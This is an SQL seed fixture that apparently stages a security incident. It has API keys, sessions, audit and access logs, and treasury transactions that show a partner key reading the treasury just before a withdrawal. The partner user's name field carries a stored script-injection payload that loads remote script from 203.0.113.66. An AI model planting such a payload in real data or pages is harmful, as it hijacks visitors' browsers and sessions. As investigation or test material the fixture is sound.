CREATE TABLE api_keys (key_hash TEXT PRIMARY KEY, owner TEXT NOT NULL, last_used_at TEXT NOT NULL, revoked BOOLEAN NOT NULL DEFAULT false);
INSERT INTO api_keys (key_hash, owner, last_used_at) VALUES
    ('4f1c9a', 'dashboard', '2026-02-17 01:00:00'), ('b07e22', 'partner', '2026-02-17 01:07:00');
CREATE TABLE sessions (
    id TEXT PRIMARY KEY, user_id TEXT NOT NULL, token TEXT NOT NULL, created_at TEXT NOT NULL, expires_at TEXT NOT NULL, ip TEXT NOT NULL
);
INSERT INTO sessions VALUES
    ('j1', 'matt', 'demo-token-5', '2026-02-16 07:00:00', '2026-03-16 07:00:00', '198.51.100.9'),
    ('j2', 'partner', 'demo-token-6', '2026-02-17 01:07:00', '2026-03-17 01:07:00', '203.0.113.66');
CREATE TABLE audit_log (id INTEGER PRIMARY KEY, actor TEXT NOT NULL, action TEXT NOT NULL, created_at TEXT NOT NULL);
INSERT INTO audit_log (actor, action, created_at) VALUES
    ('matt', 'sign_in', '2026-02-16 07:00:00'), ('partner', 'treasury.read', '2026-02-17 01:07:00');
CREATE TABLE access_log (key_hash TEXT NOT NULL, method TEXT NOT NULL, path TEXT NOT NULL, ip TEXT NOT NULL, created_at TEXT NOT NULL);
INSERT INTO access_log VALUES ('b07e22', 'GET', '/treasury', '203.0.113.66', '2026-02-17 01:07:00');
CREATE TABLE transactions (id TEXT PRIMARY KEY, wallet TEXT NOT NULL, lamports BIGINT NOT NULL, created_at TEXT NOT NULL);
INSERT INTO transactions VALUES ('t1', 'treasury', 1500000, '2026-02-16 12:00:00'), ('t2', 'treasury', -900000, '2026-02-17 01:08:00');
CREATE TABLE users (
    id TEXT PRIMARY KEY, email TEXT NOT NULL UNIQUE, name TEXT NOT NULL, created_at TEXT NOT NULL,
    password_must_change BOOLEAN NOT NULL DEFAULT false
);
INSERT INTO users (id, email, name, created_at) VALUES
    ('matt', 'matt@jarvis.example', 'Matt', '2026-01-02 09:00:00'),
    ('partner', 'partner@jarvis.example', 'A partner <script src=//203.0.113.66/x.js></script>', '2026-02-17 01:07:00');
